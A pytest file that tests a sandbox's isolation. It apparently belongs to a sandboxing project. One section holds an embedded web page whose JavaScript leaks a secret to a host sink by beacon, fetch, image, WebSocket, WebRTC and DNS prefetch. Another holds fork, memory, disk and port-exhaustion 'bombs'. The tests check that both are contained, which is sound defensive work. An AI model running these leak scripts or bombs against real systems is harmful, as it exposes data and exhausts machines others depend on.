"""What runs in a sandbox sends nothing to anybody (a sink on the host sees no packet), and gives
back what it uses up.

Both hold in every form of sandbox that this account can make: the wall is the form's, never the
program's good manners."""

import contextlib
import json
import secrets
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.sandbox.sandboxes import (
    AS_ROOT,
    EACH,
    NEVER_ENDS,
    Sandboxes,
    a_marker,
    groups_of,
    running_with,
    sandboxes_of,
    until,
)
from tests.sandbox.servers import Echo, serving

EXFILTRATOR = Path(__file__).with_name("exfiltrator.py").read_text("utf-8")


@pytest.fixture(params=EACH)
def sandboxes(request: pytest.FixtureRequest) -> Iterator[Sandboxes]:
    yield from sandboxes_of(request.param)


@pytest.fixture
def open_to_all() -> Iterator[Sandboxes]:
    """No box, for an account that Chromium's own sandbox serves: the control."""
    yield from sandboxes_of("unsealed, ordinary account" if AS_ROOT else "unsealed")


# --- nothing is sent
# ---------------------------------------------------------------------------------------------


@dataclass
class Sink:
    """Listens on every address of the host and notes each packet and each connection."""

    tcp: int = 0
    udp: int = 0
    seen: list[str] = field(default_factory=list)
    enough: threading.Event = field(default_factory=threading.Event)

    def note(self, kind: str, what: str) -> None:
        """Something came. It is enough once something of each kind has."""
        self.seen.append(f"{kind} {what}")
        if {line.split()[0] for line in self.seen} == {"tcp", "udp"}:
            self.enough.set()

    def told(self, secret: str, *also: int) -> str:
        """What an exfiltrator is told: the host by all its names, this sink's ports and others."""
        hosts = ["127.0.0.1", "127.0.0.2", *_own_addresses()]
        return json.dumps(
            {"secret": secret, "hosts": hosts, "tcp": [self.tcp, *also], "udp": self.udp}
        )


@pytest.fixture
def sink() -> Iterator[Sink]:
    with (
        socket.create_server(("0.0.0.0", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
    ):
        udp.bind(("0.0.0.0", 0))
        made = Sink(tcp.getsockname()[1], udp.getsockname()[1])
        threads = [
            threading.Thread(target=_connections, args=(tcp, made)),
            threading.Thread(target=_packets, args=(udp, made)),
        ]
        for thread in threads:
            thread.start()
        yield made
        made.enough.set()
        tcp.shutdown(socket.SHUT_RDWR)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"", ("127.0.0.1", made.udp))
        for thread in threads:
            thread.join()


def _connections(listener: socket.socket, sink: Sink) -> None:
    with contextlib.suppress(OSError):
        while True:
            link, peer = listener.accept()
            sink.note("tcp", f"from {peer}")
            link.close()


def _packets(datagrams: socket.socket, sink: Sink) -> None:
    while packet := datagrams.recv(2000):
        sink.note("udp", f"{packet[:40]!r}")


def _own_addresses() -> list[str]:
    with contextlib.suppress(OSError):
        return [
            address
            for address in socket.gethostbyname_ex(socket.gethostname())[2]
            if not address.startswith("127.")
        ]
    return []


def test_an_app_that_sends_its_secrets_reaches_no_sink(sandboxes, sink) -> None:
    """Datagrams, questions for names, connections and what is sent along with opening one: row by
    row, zero packets. The port of the sink is one that the box dials, because a permitted port must
    not be that port of every address."""
    path = sandboxes.folder / "broker.sock"
    with serving(path, Echo):
        sandboxes.own(path)
        ended = sandboxes.python(
            EXFILTRATOR,
            sink.told(secrets.token_hex(8)),
            dial=[{"port": sink.tcp, "socket": str(path)}],
        )
    assert ended.text == "done\n", ended
    assert sink.seen == []


def test_outside_of_a_sandbox_the_same_app_reaches_the_sink(open_to_all, sink) -> None:
    assert open_to_all.python(EXFILTRATOR, sink.told(secrets.token_hex(8))).text == "done\n"
    until(sink.enough.is_set)


PAGE = """<title>leaking</title><link rel="dns-prefetch" href="//%(secret)s.example"><script>
const to = "%(host)s:%(tcp)d", text = "%(secret)s";
async function leak() {
  navigator.sendBeacon("http://" + to + "/", text);
  fetch("http://" + to + "/?" + text, {mode: "no-cors"}).catch(() => {});
  new Image().src = "http://" + to + "/" + text;
  try { new WebSocket("ws://" + to + "/"); } catch (error) {}
  const link = new RTCPeerConnection({iceServers: [{urls: "stun:%(host)s:%(udp)d"}]});
  link.createDataChannel(text);
  await link.setLocalDescription(await link.createOffer());
  await fetch("/enough");
  document.title = "leaked";
}
leak();
</script>"""
VISIT = """
import os
from playwright.sync_api import sync_playwright
with sync_playwright() as play:
    path = os.environ["LOF_BROWSER"]
    browser = play.chromium.launch(executable_path=path, chromium_sandbox=True, timeout=200_000)
    page = browser.new_page()
    page.set_default_timeout(200_000)
    page.goto("http://127.0.0.1:8090/")
    page.wait_for_function("document.title == 'leaked'")
    print("visited")
"""


def leaking(sink: Sink, *, host: str, patience: float) -> type[Echo]:
    """A page that sends what it knows by every way that a page has, and stays until the sink has
    seen enough, or so long."""
    text = PAGE % {"secret": secrets.token_hex(8), "host": host, "tcp": sink.tcp, "udp": sink.udp}

    class Leaking(Echo):
        def do_GET(self) -> None:  # noqa: N802 - the standard library's name
            if self.path == "/enough":
                sink.enough.wait(patience)
            with contextlib.suppress(OSError):  # who asked may be gone by then
                self.reply(200, text.encode())

    return Leaking


def visit(sandboxes: Sandboxes, sink: Sink, *, patience: float) -> str:
    path, host = sandboxes.folder / "app.sock", (_own_addresses() or ["127.0.0.1"])[0]
    with serving(path, leaking(sink, host=host, patience=patience)):
        sandboxes.own(path)
        ended = sandboxes.run(
            "python",
            "-c",
            VISIT,
            browser=True,
            distributions=["playwright"],
            dial=[{"port": 8090, "socket": str(path)}],
        )
    assert ended.text == "visited\n", ended
    return ended.result["form"]


@pytest.mark.sample(2)
def test_a_page_that_sends_its_secrets_reaches_no_sink(sandboxes, sink) -> None:
    """Beacon, fetch, image, WebSocket, WebRTC and prefetched names, from a real Chromium that
    nothing else restrains."""
    assert visit(sandboxes, sink, patience=0.7) == sandboxes.form
    assert sink.seen == []


def test_outside_of_a_sandbox_the_same_page_reaches_the_sink(open_to_all, sink) -> None:
    visit(open_to_all, sink, patience=120)
    until(sink.enough.is_set)


# --- nothing is used up for good
# -----------------------------------------------------------------------------------------

BOMBS = {
    "loop": "while True: pass",
    "fork": (
        "import os\nwhile True:\n    try:\n        if os.fork() == 0: os.setsid()\n    except"
        " OSError: pass"
    ),
    "memory": "a = []\nwhile True: a.append(bytearray(4 << 20)); a[-1][::4096] = b'x' * 1024",
    "disk": "n = 0\nwhile True: n += 1; open(f'{n}', 'wb').write(bytes(1 << 20))",
    "one file": "file = open('one', 'wb')\nwhile True: file.write(bytes(1 << 20))",
    "ports": (
        "import socket, time\nkept = []\nwhile True:\n    try:"
        " kept.append(socket.create_server(('127.0.0.1', 0)))\n    except OSError: time.sleep(0.1)"
    ),
}
ENDED_BY = {"memory": "memory", "disk": "disk", "one file": None}


@pytest.mark.sample(1, each="bomb")
@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_stopped_and_leaves_the_host_as_it_was(sandboxes, bomb) -> None:
    """Nothing runs, is mounted or listens afterwards. The disk has what the limit allows, and what
    a moment wrote before the next look: far less than the bomb writes in the time that it would
    otherwise have."""
    inside, temporary, marker = sandboxes.place("inside"), sandboxes.place("tmp"), a_marker()
    wall = sandboxes.a_while() if bomb not in ENDED_BY else 200
    process, file = sandboxes.start(
        "python",
        "-I",
        "-c",
        f"import sys\n{BOMBS[bomb]}",
        marker,
        around={"TMPDIR": str(temporary)},
        cwd="/app",
        binds=[{"source": str(inside), "target": "/app", "mode": "rw"}],
        limits={
            "wall_seconds": wall,
            "memory_mb": 96,
            "pids": 30,
            "disk_mb": 20,
            "file_mb": 10,
            "open_files": 64,
        },
    )
    supervisor = sandboxes.supervisor_of(process)
    process.communicate(timeout=NEVER_ENDS)
    assert process.returncode != 0
    result = json.loads(file.read_text())
    assert result["killed_by"] == ENDED_BY.get(bomb, "wall"), result
    assert running_with(marker) == []
    assert sandboxes.folder.name not in Path("/proc/self/mountinfo").read_text(), (
        "a folder of the box is still mounted"
    )
    assert groups_of(supervisor) == []
    assert list(temporary.iterdir()) == []
    assert all(path.stat().st_size <= 10 << 20 for path in inside.iterdir())
    assert sum(path.stat().st_blocks * 512 for path in inside.iterdir()) < 2 << 30
